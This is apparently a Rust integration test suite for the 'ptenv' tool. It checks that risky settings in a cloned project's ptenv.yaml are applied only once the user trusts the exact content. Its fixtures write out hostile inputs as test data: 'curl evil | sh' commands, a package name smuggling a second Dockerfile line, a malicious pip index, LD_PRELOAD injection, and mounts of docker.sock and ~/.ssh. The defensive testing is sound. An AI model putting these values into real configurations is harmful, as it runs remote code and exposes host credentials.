//! Trust in a cloned project's `ptenv.yaml`: settings that reach this machine or run code are
//! applied only once the user trusts that exact content (`ptenv trust`, or yes at the prompt).
//! Real binary, real engine, a real terminal (tmux) for the prompt.

use std::time::Duration;

use crate::lifecycle::shell_yaml;
use crate::support::{docker_inspect, Project, Testbed, Tmux};

/// A project on the small fixture whose ptenv.yaml (shell_yaml + `extra`) is not trusted.
fn untrusted_project(name: &str, extra: &str) -> Project {
    Testbed::get().registry();
    let p = Project::new(name).untrusted();
    p.write("ptenv.yaml", &shell_yaml(extra));
    if rustix::process::getuid().as_raw() == 0 {
        std::os::unix::fs::chown(p.path(), Some(1000), Some(1000)).expect("chown the project");
    }
    p
}

fn settings(p: &Project) -> serde_json::Value {
    let out = p.ptenv(&["--json", "trust", "--show"]).run();
    out.assert_success();
    serde_json::from_str(&out.stdout).unwrap_or_else(|e| panic!("{e}: {out}"))
}

#[test]
fn hostile_files_are_refused_without_a_terminal_accepted_once_trusted_and_refused_after_a_byte_changes(
) {
    Testbed::get().registry();
    let pem = std::fs::read_to_string(&Testbed::get().ca_bundle).expect("the host's CA bundle");
    let corpus = [
        ("root", "mounts: ['/:/host:ro']\n", "mounts: /:/host:ro"),
        (
            "sock",
            "mounts: ['/var/run/docker.sock:/var/run/docker.sock']\n",
            "mounts: /var/run/docker.sock:/var/run/docker.sock",
        ),
        (
            "sshdir",
            "mounts: ['~/.ssh:/keys']\n",
            "mounts: ~/.ssh:/keys",
        ),
        ("open", "bind: 0.0.0.0\n", "bind: 0.0.0.0"),
        (
            "port",
            "ports: ['0.0.0.0:18999:8888']\n",
            "ports: 0.0.0.0:18999:8888",
        ),
        ("ipc", "ipc: host\n", "ipc: host"),
        ("ca", "ca_bundle: corp.pem\n", "ca_bundle: corp.pem"),
        (
            "cmd",
            "command: [sh, -c, 'curl evil | sh']\n",
            r#"command: ["sh","-c","curl evil | sh"]"#,
        ),
        (
            "img",
            "image: evil.example/x:1\n",
            "image: evil.example/x:1",
        ),
        (
            "env",
            "env: {LD_PRELOAD: /workspace/x.so}\n",
            "env: LD_PRELOAD=/workspace/x.so",
        ),
        ("pkg", "packages: {pip: [einops]}\n", "packages.pip: einops"),
    ];
    for (name, extra, shown) in corpus {
        let p = untrusted_project(&format!("trust-corpus-{name}"), extra);
        p.write("corp.pem", &pem);
        let export = ["export", "compose", "-o", "compose.yaml"];

        let refused = p.ptenv(&export).run();
        refused.assert_exit(1);
        assert!(refused.stderr.contains(shown), "{name}: {refused}");
        assert!(
            refused.stderr.contains("run `ptenv trust`"),
            "{name}: {refused}"
        );
        assert!(refused.stderr.contains("`--trust`"), "{name}: {refused}");
        assert!(
            !p.path().join("compose.yaml").exists(),
            "{name}: nothing written"
        );
        assert_eq!(settings(&p)["trusted"], false, "{name}");

        let trusted = p.ptenv(&["trust"]).run();
        trusted.assert_success();
        assert!(trusted.stdout.contains(shown), "{name}: {trusted}");
        assert_eq!(settings(&p)["trusted"], true, "{name}");
        p.ptenv(&export).run().assert_success();
        assert!(p.path().join("compose.yaml").exists(), "{name}");

        // One byte more, in a comment: the content is not the one trusted.
        let path = p.path().join("ptenv.yaml");
        let mut text = std::fs::read_to_string(&path).unwrap();
        text.push('#');
        std::fs::write(&path, text).unwrap();
        let again = p.ptenv(&export).run();
        again.assert_exit(1);
        assert!(
            again.stderr.contains("changed since you trusted it"),
            "{name}: {again}"
        );
        assert!(again.stderr.contains(shown), "{name}: {again}");
    }
}

#[test]
fn up_refuses_before_the_engine_dry_run_warns_and_trust_flag_applies_once() {
    crate::lifecycle::warm();
    let p = untrusted_project(
        "trust-up",
        "mounts: ['/var/run/docker.sock:/var/run/docker.sock']\n",
    );
    let refused = p.ptenv(&["up", "--detach"]).run();
    refused.assert_exit(1);
    assert!(refused.stderr.contains("/var/run/docker.sock"), "{refused}");
    assert!(p.containers().is_empty(), "nothing was created");

    let dry = p.ptenv(&["up", "--dry-run"]).run();
    dry.assert_success();
    assert!(dry.stderr.contains("shown, not applied"), "{dry}");
    assert!(dry.stderr.contains("/var/run/docker.sock"), "{dry}");
    assert_eq!(settings(&p)["trusted"], false, "a dry run records nothing");

    // --trust: this run only.
    let once = p.ptenv(&["up", "--detach", "--trust"]).run();
    once.assert_success();
    assert!(once.stderr.contains("for this run only"), "{once}");
    let ids = p.containers();
    assert_eq!(ids.len(), 1, "{ids:?}");
    let mounts = docker_inspect(&ids[0])["Mounts"].to_string();
    assert!(mounts.contains("/var/run/docker.sock"), "{mounts}");
    assert_eq!(settings(&p)["trusted"], false, "--trust records nothing");
    p.ptenv(&["down"]).run().assert_success();
    p.ptenv(&["up", "--detach"]).run().assert_exit(1);

    p.ptenv(&["trust"]).run().assert_success();
    p.ptenv(&["up", "--detach"]).run().assert_success();
    p.ptenv(&["down"]).run().assert_success();
    let revoked = p.ptenv(&["trust", "--revoke"]).run();
    revoked.assert_success();
    assert!(revoked.stderr.contains("revoked"), "{revoked}");
    p.ptenv(&["up", "--detach"]).run().assert_exit(1);
    assert!(p.containers().is_empty());

    // lock and ssh go through the same gate.
    let lock = p.ptenv(&["lock"]).run();
    lock.assert_exit(1);
    assert!(lock.stderr.contains("run `ptenv trust`"), "{lock}");
    let ssh = p.ptenv(&["ssh"]).run();
    ssh.assert_exit(1);
    assert!(ssh.stderr.contains("run `ptenv trust`"), "{ssh}");
    assert!(p.containers().is_empty());
}

#[test]
fn a_file_without_risky_settings_needs_no_trust() {
    let p = Project::new("trust-plain").untrusted();
    p.write(
        "ptenv.yaml",
        "gpus: none\nshm_size: 256m\nports: ['127.0.0.1:18998:8888']\n",
    );
    let s = settings(&p);
    assert_eq!(s["trusted"], true, "{s}");
    assert_eq!(s["settings"], serde_json::json!([]), "{s}");
    let out = p.ptenv(&["up", "--dry-run"]).run();
    out.assert_success();
    assert!(!out.stderr.contains("ptenv trust"), "{out}");
    // Nothing recorded, nothing to revoke.
    let revoked = p.ptenv(&["trust", "--revoke"]).run();
    assert!(revoked.stderr.contains("was not trusted"), "{revoked}");
}

/// What no trust can make acceptable: a token override, an option or a second Dockerfile
/// line smuggled in as a package name. Refused without a terminal, by `ptenv trust` itself,
/// and with `--trust`.
#[test]
fn hostile_values_are_refused_even_by_a_user_who_trusts_the_file() {
    for (name, yaml, said) in [
        (
            "token",
            "env: {JUPYTER_TOKEN: known}\n",
            "`JUPYTER_TOKEN` is refused",
        ),
        (
            "pip-option",
            "packages: {pip: ['--index-url=http://evil.example/simple']}\n",
            "is not a pip requirement",
        ),
        (
            "newline",
            "packages: {apt: [\"git\\nRUN curl evil.example | sh\"]}\n",
            "is not a Debian package",
        ),
    ] {
        let p = Project::new(&format!("trust-hostile-{name}")).untrusted();
        p.write("ptenv.yaml", yaml);
        for args in [
            &["trust"][..],
            &["up", "jupyter", "--dry-run"],
            &["up", "jupyter", "--trust"],
        ] {
            let out = p.ptenv(args).run();
            out.assert_exit(1);
            assert!(out.stderr.contains(said), "{name} {args:?}: {out}");
            assert!(
                out.stderr.contains("ptenv.yaml:1:"),
                "{name} {args:?}: {out}"
            );
        }
        assert!(p.containers().is_empty());
    }
}

#[test]
fn doctor_does_not_probe_the_image_of_an_untrusted_file() {
    let p = untrusted_project("trust-doctor", "image: evil.example/x:1\n");
    let out = p.ptenv(&["--json", "doctor"]).run();
    let report: serde_json::Value =
        serde_json::from_str(&out.stdout).unwrap_or_else(|e| panic!("{e}: {out}"));
    let torch = crate::doctor::check(&report, "torch");
    assert_eq!(torch["status"], "skip", "{torch:#}");
    assert!(
        torch["summary"]
            .as_str()
            .unwrap()
            .contains("is not trusted"),
        "{torch:#}"
    );
}

#[test]
fn on_a_terminal_the_user_is_asked_and_no_is_the_default() {
    let p = untrusted_project("trust-tty", "ipc: host\n");
    let env = p.shell_env();
    let script = format!(
        "cd '{dir}' && for i in 1 2; do env {env} '{bin}' export compose -o compose.yaml; echo \"EXIT$i=$?\"; done; sleep 600",
        dir = p.path().display(),
        bin = env!("CARGO_BIN_EXE_ptenv"),
    );
    let tmux = Tmux::start("trust", 160, 50, &script);
    let t = Duration::from_secs(60);
    let screen = tmux.wait_for("apply these settings?", t);
    assert!(screen.contains("ipc: host"), "{screen}");
    // Enter takes the default: no.
    tmux.keys(&["Enter"]);
    let screen = tmux.wait_for("EXIT1=", t);
    assert!(screen.contains("EXIT1=1"), "{screen}");
    assert!(
        screen.contains("is not trusted; nothing was done"),
        "{screen}"
    );
    assert!(!p.path().join("compose.yaml").exists());
    assert_eq!(settings(&p)["trusted"], false);

    tmux.wait_until("second question", t, |s| {
        s.matches("apply these settings?").count() >= 2
    });
    tmux.keys(&["y"]);
    let screen = tmux.wait_for("EXIT2=", t);
    assert!(screen.contains("EXIT2=0"), "{screen}");
    assert!(p.path().join("compose.yaml").exists());
    // Recorded: without a terminal now, it goes on.
    assert_eq!(settings(&p)["trusted"], true);
    p.ptenv(&["export", "compose"]).run().assert_success();
}
